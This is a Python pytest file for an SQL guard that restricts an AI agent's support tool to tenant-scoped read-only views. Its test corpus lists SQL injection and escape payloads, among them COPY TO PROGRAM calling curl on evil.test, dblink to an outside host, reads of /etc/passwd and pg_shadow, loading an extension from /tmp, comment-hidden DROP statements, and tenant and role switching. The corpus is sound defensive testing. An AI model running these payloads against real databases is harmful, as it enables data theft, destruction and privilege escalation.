"""The SQL guard alone, on both dialects, with the escape corpus the tool tests replay against real databases."""

from __future__ import annotations

import re
from dataclasses import dataclass

import pytest

from agent.tools.sql_guard import (
    CAST_REFUSED,
    CATALOG_REFUSED,
    COMMENTS_REFUSED,
    CONSTRUCT_REFUSED,
    CTE_BODY_REFUSED,
    EMPTY_QUERY,
    FROM_ITEM_REFUSED,
    FUNCTION_REFUSED,
    IDENTIFIER_REFUSED,
    LOCKING_REFUSED,
    MAX_QUERY_LENGTH,
    MULTIPLE_STATEMENTS,
    NOT_A_SELECT,
    PARSE_ERROR,
    QUERY_TOO_LONG,
    QUOTED_TABLE_REFUSED,
    RECURSIVE_REFUSED,
    SCHEMA_REFUSED,
    SELECT_INTO_REFUSED,
    TABLE_REFUSED,
    SqlRefused,
    check_sql,
)

VIEWS = {
    "support_tenant_overview",
    "support_tenant_users",
    "support_login_attempts",
    "support_subscriptions",
    "support_invoices",
    "support_tenant_config",
}
DIALECTS = ("postgres", "sqlite")


@dataclass(frozen=True)
class Escape:
    id: str
    sql: str
    refusals: tuple[str, ...]  # the message templates the guard may answer with (dialects parse some differently)


def escape(id_: str, sql: str, *refusals: str) -> Escape:
    return Escape(id_, sql, refusals)


# Every one of these must be refused, by the guard and, replayed through the tool, on both databases.
ESCAPES: list[Escape] = [
    # Writes and schema changes
    escape("insert-into-view", "INSERT INTO support_tenant_users (email) VALUES ('x@evil.test')", NOT_A_SELECT),
    escape("update-view", "UPDATE support_tenant_users SET locked = false", NOT_A_SELECT),
    escape("delete-base-table", "DELETE FROM sandbox_invoice", NOT_A_SELECT),
    escape("drop-view", "DROP VIEW support_invoices", NOT_A_SELECT),
    escape("create-table-as", "CREATE TABLE loot AS SELECT * FROM sandbox_tenant_user", NOT_A_SELECT),
    escape("alter-role", "ALTER ROLE agentconsole_support_ro SUPERUSER", NOT_A_SELECT),
    escape("truncate", "TRUNCATE sandbox_login_attempt", NOT_A_SELECT),
    escape("grant", "GRANT SELECT ON sandbox_tenant_user TO agentconsole_support_ro", NOT_A_SELECT),
    escape("explain-analyze-delete", "EXPLAIN ANALYZE DELETE FROM sandbox_invoice", NOT_A_SELECT),
    escape("prepare-delete", "PREPARE p AS DELETE FROM sandbox_invoice", NOT_A_SELECT),
    escape("do-block", "DO $$ BEGIN PERFORM pg_sleep(10); END $$", NOT_A_SELECT, PARSE_ERROR),
    escape("commit", "COMMIT", NOT_A_SELECT),
    escape("vacuum-into", "VACUUM INTO '/tmp/copy.db'", NOT_A_SELECT),
    # Writes hidden in CTEs
    escape(
        "cte-delete",
        "WITH gone AS (DELETE FROM sandbox_invoice RETURNING *) SELECT count(*) FROM gone",
        CTE_BODY_REFUSED,
    ),
    escape(
        "cte-update",
        "WITH u AS (UPDATE sandbox_tenant_user SET locked = false RETURNING id) SELECT * FROM u",
        CTE_BODY_REFUSED,
    ),
    escape(
        "cte-insert",
        "WITH i AS (INSERT INTO sandbox_tenant_config (tenant_id, key, value, updated_at) "
        "VALUES ('acme', 'k', 'v', now()) RETURNING *) SELECT * FROM i",
        CTE_BODY_REFUSED,
    ),
    escape(
        "cte-delete-in-subquery",
        "SELECT * FROM (WITH d AS (DELETE FROM sandbox_invoice RETURNING *) SELECT * FROM d) AS x",
        CTE_BODY_REFUSED,
    ),
    # Several statements
    escape("select-then-drop", "SELECT 1; DROP TABLE sandbox_invoice", MULTIPLE_STATEMENTS),
    escape(
        "select-then-update",
        "SELECT * FROM support_invoices; UPDATE sandbox_invoice SET status = 'paid'",
        MULTIPLE_STATEMENTS,
    ),
    # SELECT INTO and locking
    escape("select-into", "SELECT * INTO loot FROM support_tenant_users", SELECT_INTO_REFUSED),
    escape("for-update", "SELECT * FROM support_invoices FOR UPDATE", LOCKING_REFUSED),
    escape("for-share", "SELECT * FROM support_invoices FOR SHARE", LOCKING_REFUSED),
    # Sleeping, session and role tricks
    escape("pg-sleep", "SELECT pg_sleep(10)", FUNCTION_REFUSED),
    escape("pg-sleep-in-where", "SELECT * FROM support_invoices WHERE pg_sleep(10) IS NOT NULL", FUNCTION_REFUSED),
    escape("pg-sleep-in-order-by", "SELECT * FROM support_invoices ORDER BY pg_sleep(1)", FUNCTION_REFUSED),
    escape("qualified-pg-sleep", "SELECT pg_catalog.pg_sleep(1)", FUNCTION_REFUSED),
    escape("set-role", "SET ROLE postgres", NOT_A_SELECT),
    escape("reset-role", "RESET ROLE", NOT_A_SELECT),
    escape("set-session-authorization", "SET SESSION AUTHORIZATION postgres", NOT_A_SELECT),
    escape("set-tenant", "SET agentconsole.tenant_id = 'globex'", NOT_A_SELECT),
    escape("set-config", "SELECT set_config('agentconsole.tenant_id', 'globex', false)", FUNCTION_REFUSED),
    escape(
        "set-config-in-where",
        "SELECT * FROM support_tenant_users WHERE set_config('agentconsole.tenant_id', 'globex', true) IS NOT NULL",
        FUNCTION_REFUSED,
    ),
    escape("current-setting", "SELECT current_setting('agentconsole.tenant_id')", FUNCTION_REFUSED),
    escape("current-user", "SELECT current_user", FUNCTION_REFUSED),
    # Files, programs, other servers
    escape("copy-to-program", "COPY sandbox_tenant_user TO PROGRAM 'curl https://evil.test'", NOT_A_SELECT),
    escape("copy-to-stdout", "COPY (SELECT * FROM sandbox_tenant_user) TO STDOUT", NOT_A_SELECT),
    escape("dblink-from", "SELECT * FROM dblink('host=evil.test', 'SELECT 1') AS t(x int)", FROM_ITEM_REFUSED),
    escape("dblink-exec", "SELECT dblink_exec('dbname=postgres', 'DROP TABLE sandbox_invoice')", FUNCTION_REFUSED),
    escape("lo-import", "SELECT lo_import('/etc/passwd')", FUNCTION_REFUSED),
    escape("lo-export", "SELECT lo_export(16400, '/tmp/loot')", FUNCTION_REFUSED),
    escape("pg-read-file", "SELECT pg_read_file('/etc/passwd')", FUNCTION_REFUSED),
    escape("pg-ls-dir", "SELECT pg_ls_dir('.')", FUNCTION_REFUSED),
    escape(
        "query-to-xml",
        "SELECT query_to_xml('SELECT * FROM sandbox_tenant_user', true, false, '')",
        FUNCTION_REFUSED,
    ),
    escape("load-extension", "SELECT load_extension('/tmp/evil.so')", FUNCTION_REFUSED),
    escape("attach", "ATTACH DATABASE '/tmp/evil.db' AS evil", NOT_A_SELECT, PARSE_ERROR),
    # Comments
    escape("line-comment-hides-statement", "SELECT 1 --\n; DROP TABLE sandbox_invoice", COMMENTS_REFUSED),
    escape("block-comment-hides-statement", "SELECT 1 /* */; DELETE FROM sandbox_invoice", COMMENTS_REFUSED),
    escape("comment-inside", "SELECT email FROM support_tenant_users /* see */ WHERE true", COMMENTS_REFUSED),
    escape("optimizer-hint", "SELECT /*+ SeqScan(t) */ * FROM support_invoices", COMMENTS_REFUSED),
    # Quoting
    escape("quoted-base-table", 'SELECT * FROM "sandbox_tenant"', QUOTED_TABLE_REFUSED),
    escape("mixed-case-quoted-view", 'SELECT * FROM "Support_Tenant_Overview"', QUOTED_TABLE_REFUSED),
    escape("unicode-escape-table", 'SELECT * FROM U&"\\0073andbox_tenant"', PARSE_ERROR),
    escape("unicode-escape-column", 'SELECT U&"\\0070assword_hash" FROM support_tenant_users', CONSTRUCT_REFUSED),
    escape("backtick-base-table", "SELECT * FROM `sandbox_tenant`", PARSE_ERROR, QUOTED_TABLE_REFUSED),
    escape("bracket-base-table", "SELECT * FROM [sandbox_tenant_user]", PARSE_ERROR, QUOTED_TABLE_REFUSED),
    escape(
        "bind-parameter",
        "SELECT * FROM support_invoices WHERE invoice_id = $1",
        CONSTRUCT_REFUSED,
        IDENTIFIER_REFUSED,
    ),
    # Base tables, directly and hidden
    escape("base-users-password-hash", "SELECT email, password_hash FROM sandbox_tenant_user", TABLE_REFUSED),
    escape("base-tenant-notes", "SELECT internal_notes FROM sandbox_tenant", TABLE_REFUSED),
    escape("base-subscription-card", "SELECT payment_method_last4 FROM sandbox_subscription", TABLE_REFUSED),
    escape("public-base-table", "SELECT * FROM public.sandbox_tenant_user", TABLE_REFUSED, SCHEMA_REFUSED),
    escape(
        "subquery-base-table",
        "SELECT * FROM support_tenant_users WHERE email IN "
        "(SELECT email FROM sandbox_tenant_user WHERE password_hash LIKE 'pbkdf2%')",
        TABLE_REFUSED,
    ),
    escape(
        "exists-base-table",
        "SELECT 1 WHERE EXISTS (SELECT 1 FROM sandbox_tenant WHERE internal_notes <> '')",
        TABLE_REFUSED,
    ),
    escape(
        "join-base-table",
        "SELECT u.email, t.password_hash FROM support_tenant_users AS u "
        "JOIN sandbox_tenant_user AS t ON t.id = u.user_id",
        TABLE_REFUSED,
    ),
    escape(
        "union-base-table",
        "SELECT email FROM support_tenant_users UNION SELECT password_hash FROM sandbox_tenant_user",
        TABLE_REFUSED,
    ),
    escape("cte-over-base-table", "WITH x AS (SELECT * FROM sandbox_tenant_user) SELECT * FROM x", TABLE_REFUSED),
    escape(
        "cte-shadowing-a-view",
        "WITH support_tenant_users AS (SELECT * FROM sandbox_tenant_user) SELECT * FROM support_tenant_users",
        TABLE_REFUSED,
    ),
    escape(
        "cte-name-out-of-scope",
        "SELECT * FROM (WITH sandbox_tenant_user AS (SELECT 1 AS a) SELECT * FROM sandbox_tenant_user) AS s, "
        "sandbox_tenant_user AS u",
        TABLE_REFUSED,
    ),
    escape(
        "cte-forward-reference",
        "WITH a AS (SELECT * FROM sandbox_invoice), sandbox_invoice AS (SELECT 1 AS n) SELECT * FROM a",
        TABLE_REFUSED,
    ),
    escape("array-of-base-table", "SELECT ARRAY(SELECT password_hash FROM sandbox_tenant_user)", FUNCTION_REFUSED),
    escape("lateral", "SELECT * FROM support_invoices, LATERAL (SELECT pg_sleep(1)) AS s", CONSTRUCT_REFUSED),
    escape(
        "recursive-cte",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        RECURSIVE_REFUSED,
    ),
    escape("generate-series", "SELECT count(*) FROM generate_series(1, 100000000)", FROM_ITEM_REFUSED),
    # System catalogs
    escape("pg-user", "SELECT * FROM pg_catalog.pg_user", CATALOG_REFUSED),
    escape("pg-shadow", "SELECT usename, passwd FROM pg_shadow", CATALOG_REFUSED),
    escape("pg-stat-activity", "SELECT query FROM pg_stat_activity", CATALOG_REFUSED),
    escape("information-schema", "SELECT * FROM information_schema.tables", CATALOG_REFUSED),
    escape("sqlite-master", "SELECT sql FROM sqlite_master", CATALOG_REFUSED),
    escape("sqlite-schema-qualified", "SELECT * FROM main.sqlite_schema", CATALOG_REFUSED, SCHEMA_REFUSED),
    escape("pragma", "PRAGMA table_info(sandbox_tenant_user)", NOT_A_SELECT),
    escape("pragma-function", "SELECT * FROM pragma_table_info('sandbox_tenant_user')", FROM_ITEM_REFUSED),
    escape("regclass-cast", "SELECT 'sandbox_tenant_user'::regclass", CAST_REFUSED),
    escape("other-schema", "SELECT * FROM evil.support_invoices", SCHEMA_REFUSED),
    escape("temp-schema", "SELECT * FROM temp.support_invoices", CATALOG_REFUSED),
    # Edges
    escape("empty", "   ", EMPTY_QUERY),
    escape("only-semicolons", ";;", EMPTY_QUERY),
    escape("too-long", "SELECT 1" + " " * MAX_QUERY_LENGTH, QUERY_TOO_LONG),
    escape("values", "VALUES (1)", NOT_A_SELECT),
    escape("notify", "NOTIFY loot", NOT_A_SELECT),
]


@dataclass(frozen=True)
class OtherTenant:
    id: str
    sql: str
    own_rows: bool  # the bound tenant's rows come back (False: nothing comes back)


# The guard lets these through (they are plain SELECTs over the views); the views must still return only the
# bound tenant's rows. The tool tests replay them on both databases.
OTHER_TENANT: list[OtherTenant] = [
    OtherTenant("where-other-tenant", "SELECT email FROM support_tenant_users WHERE tenant_id = 'globex'", False),
    OtherTenant(
        "or-true",
        "SELECT tenant_id, email FROM support_tenant_users WHERE tenant_id = 'globex' OR 1 = 1",
        True,
    ),
    OtherTenant(
        "union-over-views",
        "SELECT tenant_id, email FROM support_tenant_users UNION SELECT tenant_id, email FROM support_login_attempts",
        True,
    ),
    OtherTenant("not-the-bound-tenant", "SELECT * FROM support_invoices WHERE tenant_id <> 'acme'", False),
    OtherTenant("count-everything", "SELECT count(*) AS tenants, max(name) AS name FROM support_tenant_overview", True),
    OtherTenant(
        "subquery-naming-other",
        "SELECT * FROM support_tenant_overview WHERE tenant_id IN (SELECT 'globex' UNION SELECT 'acme')",
        True,
    ),
    OtherTenant(
        "cross-join-views",
        "SELECT a.tenant_id, b.tenant_id AS other, a.number FROM support_invoices AS a "
        "CROSS JOIN support_tenant_overview AS b",
        True,
    ),
    OtherTenant("like-any-tenant", "SELECT key, value FROM support_tenant_config WHERE tenant_id LIKE '%'", True),
]

# What support legitimately asks; must pass the guard and, in the tool tests, return rows.
LEGIT: list[tuple[str, str]] = [
    ("overview", "SELECT * FROM support_tenant_overview"),
    (
        "join-and-aggregate",
        "SELECT u.email, count(*) AS failures FROM support_tenant_users AS u "
        "JOIN support_login_attempts AS a ON a.user_id = u.user_id "
        "WHERE NOT a.success GROUP BY u.email HAVING count(*) > 1 ORDER BY failures DESC LIMIT 5",
    ),
    (
        "cte-over-views",
        "WITH open_invoices AS (SELECT * FROM support_invoices WHERE status = 'open') "
        "SELECT number, amount_cents FROM open_invoices ORDER BY amount_cents DESC",
    ),
    ("union-of-views", "SELECT email FROM support_tenant_users UNION SELECT email FROM support_login_attempts"),
    (
        "functions",
        "SELECT lower(email) AS email, coalesce(locked_at, last_login_at) AS seen, length(role) AS n "
        "FROM support_tenant_users ORDER BY email",
    ),
    ("config-lookup", "SELECT key, value FROM support_tenant_config WHERE key LIKE 'feature.%'"),
    ("subquery", "SELECT * FROM support_subscriptions WHERE tenant_id IN (SELECT tenant_id FROM support_invoices)"),
    (
        "case-and-sum",
        "SELECT sum(CASE WHEN status = 'open' THEN amount_cents ELSE 0 END) AS open_cents FROM support_invoices",
    ),
]


def matches(template: str, message: str) -> bool:
    """Does a message come from this template (placeholders match anything)?"""
    parts = re.split(r"\{[^}]*\}", template)
    return re.fullmatch(".+?".join(map(re.escape, parts)), message, flags=re.DOTALL) is not None


def assert_refused_as(message: str, refusals: tuple[str, ...]) -> None:
    assert any(matches(template, message) for template in refusals), message


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("case", ESCAPES, ids=[case.id for case in ESCAPES])
def test_it_refuses_every_escape_attempt(case: Escape, dialect: str) -> None:
    with pytest.raises(SqlRefused) as refused:
        check_sql(case.sql, allowed_views=VIEWS, dialect=dialect)

    assert_refused_as(refused.value.message, case.refusals)


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("case", OTHER_TENANT, ids=[case.id for case in OTHER_TENANT])
def test_it_leaves_other_tenant_filters_to_the_tenant_bound_views(case: OtherTenant, dialect: str) -> None:
    guarded = check_sql(case.sql, allowed_views=VIEWS, dialect=dialect)

    assert guarded.views <= VIEWS


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(("name", "sql"), LEGIT, ids=[name for name, _ in LEGIT])
def test_it_accepts_legitimate_queries_and_regenerates_them_stably(name: str, sql: str, dialect: str) -> None:
    guarded = check_sql(sql, allowed_views=VIEWS, dialect=dialect)

    assert guarded.views and guarded.views <= VIEWS
    assert check_sql(guarded.sql, allowed_views=VIEWS, dialect=dialect).sql == guarded.sql


def test_it_runs_the_text_it_checked_not_the_text_it_was_given() -> None:
    guarded = check_sql(
        "select  email\n  from SUPPORT_TENANT_USERS u where u.email like 'a%'",
        allowed_views=VIEWS,
        dialect="postgres",
    )

    assert guarded.sql == "SELECT email FROM SUPPORT_TENANT_USERS AS u WHERE u.email LIKE 'a%'"
    assert guarded.views == {"support_tenant_users"}


def test_it_reports_the_views_a_query_reads_and_not_its_ctes() -> None:
    guarded = check_sql(
        "WITH failed AS (SELECT * FROM support_login_attempts WHERE NOT success) "
        "SELECT u.email FROM support_tenant_users AS u JOIN failed AS f ON f.user_id = u.user_id",
        allowed_views=VIEWS,
        dialect="postgres",
    )

    assert guarded.views == {"support_login_attempts", "support_tenant_users"}


@pytest.mark.parametrize(
    ("sql", "views"),
    [
        (
            "WITH a AS (SELECT * FROM support_invoices), b AS (SELECT * FROM a) SELECT * FROM b",
            {"support_invoices"},
        ),
        (
            "WITH a AS (SELECT * FROM support_invoices) SELECT * FROM (SELECT * FROM a) AS s",
            {"support_invoices"},
        ),
        (
            "WITH a AS (SELECT * FROM support_invoices) "
            "SELECT * FROM support_tenant_overview WHERE EXISTS (SELECT 1 FROM a)",
            {"support_invoices", "support_tenant_overview"},
        ),
    ],
    ids=["earlier-sibling", "outer-cte-in-subquery", "outer-cte-in-exists"],
)
def test_it_resolves_cte_names_where_the_database_does(sql: str, views: set[str]) -> None:
    assert check_sql(sql, allowed_views=VIEWS, dialect="postgres").views == views


def test_it_names_the_refused_table_and_lists_the_views() -> None:
    with pytest.raises(SqlRefused) as refused:
        check_sql("SELECT * FROM sandbox_tenant_user", allowed_views=VIEWS, dialect="postgres")

    assert "'sandbox_tenant_user'" in refused.value.message
    assert all(view in refused.value.message for view in VIEWS)


def test_it_names_the_refused_function_and_lists_the_allowed_ones() -> None:
    with pytest.raises(SqlRefused) as refused:
        check_sql("SELECT pg_sleep(10)", allowed_views=VIEWS, dialect="postgres")

    assert "pg_sleep()" in refused.value.message
    assert "count" in refused.value.message and "date_trunc" in refused.value.message


def test_it_only_knows_postgresql_and_sqlite() -> None:
    with pytest.raises(ValueError, match="mysql"):
        check_sql("SELECT 1", allowed_views=VIEWS, dialect="mysql")


def test_it_keeps_a_corpus_of_at_least_45_escape_attempts() -> None:
    ids = [case.id for case in ESCAPES] + [case.id for case in OTHER_TENANT]

    assert len(ids) >= 45
    assert len(set(ids)) == len(ids)
